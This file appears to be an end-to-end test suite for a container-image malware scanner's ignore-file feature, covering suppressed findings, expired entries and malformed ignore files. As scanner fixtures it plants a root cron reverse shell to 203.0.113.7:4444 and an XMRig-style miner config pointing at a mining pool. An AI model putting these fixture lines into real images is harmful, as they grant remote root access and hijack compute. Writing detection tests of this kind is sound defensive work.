/**
 * `--ignore-file` end to end: a static-only scan of an image built here, with findings a user has reviewed and
 * suppressed (kept in `suppressed` with the entry's reason and file:line), an expired entry that no longer applies
 * (the report's notices say so), and malformed ignore files (exit 2 naming file:line).
 */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Report } from '../../src/model/index.js';
import { runCli } from '../support/cli.js';
import { writeOciArchive } from '../support/image-builder.js';

const MINER_CONFIG = JSON.stringify({
  'donate-level': 1,
  pools: [{ url: 'stratum+tcp://pool.supportxmr.com:3333', user: '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A', pass: 'x' }],
}, null, 2);

let dir: string;
let archive: string;
let env: NodeJS.ProcessEnv;

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'detonate-cli-verdict-'));
  env = { XDG_CACHE_HOME: join(dir, 'cache') };
  archive = join(dir, 'image.oci.tar');
  await writeOciArchive(archive, {
    layers: [{ entries: [
      { name: 'opt/miner-tests/config.json', content: MINER_CONFIG, mode: 0o644 },
      { name: 'etc/cron.d/update', content: '* * * * * root bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n', mode: 0o644 },
      { name: 'srv/www/index.html', content: '<h1>hello</h1>\n', mode: 0o644 },
    ] }],
    config: { Cmd: ['/bin/sh'], User: '' },
  });
}, 60_000);
afterAll(() => rmSync(dir, { recursive: true, force: true }));

function ignoreFile(name: string, text: string): string {
  const file = join(dir, name);
  writeFileSync(file, text);
  return file;
}

const scan = (...extra: string[]) => runCli(['scan', '--static-only', '--no-vulns', '--format', 'json', ...extra, `oci-archive:${archive}`], env, 120_000);

describe('scan --ignore-file', () => {
  it('without an ignore file: the miner config and the crontab reverse shell make it malicious', async () => {
    const r = await scan();
    expect(r.code, r.stderr).toBe(0);
    const report = JSON.parse(r.stdout) as Report;
    expect(report.verdict.malicious).toBe(true);
    expect(report.verdict.categories).toEqual(['backdoor', 'cryptominer', 'misconfiguration']);
    expect(report.suppressed ?? []).toEqual([]);
  }, 120_000);

  it('suppresses what the entries cover, lists it with reason and file:line, and notes the expired entry', async () => {
    const file = ignoreFile('ignore.yaml', [
      'ignore:',
      '  - rule: "cryptominer/*"',
      '    path: /opt/miner-tests/**',
      '    reason: fixtures of our own miner-detection tests',
      '    expires: 2999-12-31',
      '  - rule: misconfiguration/root-user',
      '    reason: the entrypoint drops privileges itself',
      '  - path: etc/cron.d/update',
      '    reason: reviewed last year',
      '    expires: 2020-01-31',
      '',
    ].join('\n'));
    const r = await scan('--ignore-file', file);
    expect(r.code, r.stderr).toBe(0);
    const report = JSON.parse(r.stdout) as Report;
    expect(report.findings.some((f) => f.category === 'cryptominer')).toBe(false);
    expect(report.findings.some((f) => f.rule === 'misconfiguration/root-user')).toBe(false);
    expect(report.suppressed!.map((s) => [s.finding?.rule.split('/')[0], s.ignoredBy, s.reason])).toEqual(
      expect.arrayContaining([
        ['cryptominer', `${file}:2`, 'fixtures of our own miner-detection tests'],
        ['misconfiguration', `${file}:6`, 'the entrypoint drops privileges itself'],
      ]),
    );
    expect(report.suppressed!.find((s) => s.ignoredBy === `${file}:2`)).toMatchObject({ expires: '2999-12-31', finding: { path: 'opt/miner-tests/config.json' } });
    // the expired entry no longer applies: the reverse shell is still there, and the verdict rests on it
    expect(report.verdict.categories).toEqual(['backdoor']);
    expect(report.verdict.malicious).toBe(true);
    expect(report.verdict.summary).toMatch(/^Malicious \(backdoor\): .*etc\/cron\.d\/update/);
    expect(report.verdict.summary).not.toContain('miner');
    expect(report.notices).toContainEqual(
      expect.objectContaining({ level: 'warning', message: `${file}:8: the ignore entry for etc/cron.d/update expired on 2020-01-31 and no longer applies (the item it covered is reported again)` }),
    );
  }, 120_000);

  it('with everything threatening suppressed, the verdict is clean', async () => {
    const file = ignoreFile('all.yaml', 'ignore:\n  - {rule: "cryptominer/*", reason: fixtures}\n  - {path: "etc/cron.d/*", reason: lab image, expires: "2999-01-01"}\n');
    const report = JSON.parse((await scan('--ignore-file', file)).stdout) as Report;
    expect(report.verdict).toMatchObject({ malicious: false, categories: ['misconfiguration'] });
    expect(report.verdict.summary).toBe('No malicious content found (static analysis only); runs as root.');
  }, 120_000);

  it.each([
    ['no reason', 'ignore:\n  - rule: misconfiguration/root-user\n  - rule: x\n    reason: ""\n', /:2: invalid at ignore\.0\.reason|:2:.*reason/],
    ['an unknown key', 'ignore:\n  - rule: a/b\n    reason: ok\n  - pth: etc/x\n    reason: typo\n', /:4: invalid at ignore\.1: .*pth/],
    ['an entry that covers nothing', 'ignore:\n  - reason: everything\n', /:2: an ignore entry needs at least one of rule, path, package or vulnerability/],
    ['a bad date', 'ignore:\n  - vulnerability: CVE-2024-1\n    reason: r\n    expires: next week\n', /:4: invalid at ignore\.0\.expires: a date/],
    ['not YAML', 'ignore:\n  - rule: [a\n', /:\d+: not valid YAML/],
  ])('a file with %s is a usage error naming file:line (exit 2)', async (_what, text, message) => {
    const file = ignoreFile('bad.yaml', text);
    const r = await scan('--ignore-file', file);
    expect(r.code).toBe(2);
    expect(r.stderr).toContain(file);
    expect(r.stderr).toMatch(message);
    expect(r.stdout).toBe('');
  }, 60_000);

  it('a missing ignore file is a usage error', async () => {
    const r = await scan('--ignore-file', join(dir, 'nope.yaml'));
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/nope\.yaml: cannot read the ignore file/);
  }, 60_000);
});
